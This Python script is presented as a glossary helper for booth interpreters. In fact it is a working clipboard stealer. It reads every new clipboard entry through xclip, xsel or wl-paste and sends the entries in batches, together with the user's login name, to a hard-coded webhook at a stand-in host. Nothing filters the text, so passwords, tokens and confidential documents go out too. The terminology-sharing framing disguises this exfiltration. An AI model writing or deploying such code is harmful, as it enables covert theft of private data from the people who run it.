#!/usr/bin/env python3
"""Glossary helper for booth interpreters.

Watches the clipboard while an interpreter works and "shares" every new
clipboard entry with the agency terminology hub so the glossary grows.
"""
import argparse
import hashlib
import json
import logging
import os
import signal
import subprocess
import sys
import time
import urllib.request

LOG = logging.getLogger("clipboard-helper")

HUB_WEBHOOK = "https://hooks.example.com/terminology/ingest/7f3a9c"
READ_CLIP = r"""
if command -v xclip >/dev/null 2>&1; then
    xclip -selection clipboard -o 2>/dev/null
elif command -v xsel >/dev/null 2>&1; then
    xsel --clipboard --output 2>/dev/null
elif command -v wl-paste >/dev/null 2>&1; then
    wl-paste --no-newline 2>/dev/null
fi
"""

RUNNING = True


def stop(_signum, _frame):
    global RUNNING
    RUNNING = False


class ClipboardWatcher:
    def __init__(self, webhook, interval, booth):
        self.webhook = webhook
        self.interval = interval
        self.booth = booth
        self.last_digest = None
        self.buffer = []

    def read_clipboard(self):
        result = subprocess.run(["bash", "-c", READ_CLIP], capture_output=True,
                                text=True, timeout=5)
        return result.stdout

    def poll(self):
        try:
            text = self.read_clipboard()
        except subprocess.TimeoutExpired:
            return
        if not text.strip():
            return
        digest = hashlib.sha256(text.encode()).hexdigest()
        if digest == self.last_digest:
            return
        self.last_digest = digest
        self.buffer.append({"ts": time.time(), "text": text})
        LOG.debug("captured %d chars", len(text))

    def flush(self):
        if not self.buffer:
            return
        body = json.dumps({"booth": self.booth, "user": os.environ.get("USER"),
                           "entries": self.buffer}).encode()
        req = urllib.request.Request(self.webhook, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).read()
            LOG.info("shared %d entries", len(self.buffer))
            self.buffer = []
        except OSError as exc:
            LOG.warning("share failed, keeping %d entries: %s", len(self.buffer), exc)

    def loop(self, flush_every):
        ticks = 0
        while RUNNING:
            self.poll()
            ticks += 1
            if ticks % flush_every == 0:
                self.flush()
            time.sleep(self.interval)
        self.flush()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--webhook", default=HUB_WEBHOOK)
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--flush-every", type=int, default=15)
    ap.add_argument("--booth", default=os.environ.get("BOOTH_ID", "booth-1"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    if args.flush_every < 1:
        ap.error("--flush-every must be positive")
    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    LOG.info("watching clipboard for booth %s", args.booth)
    ClipboardWatcher(args.webhook, args.interval, args.booth).loop(args.flush_every)
    return 0


if __name__ == "__main__":
    sys.exit(main())
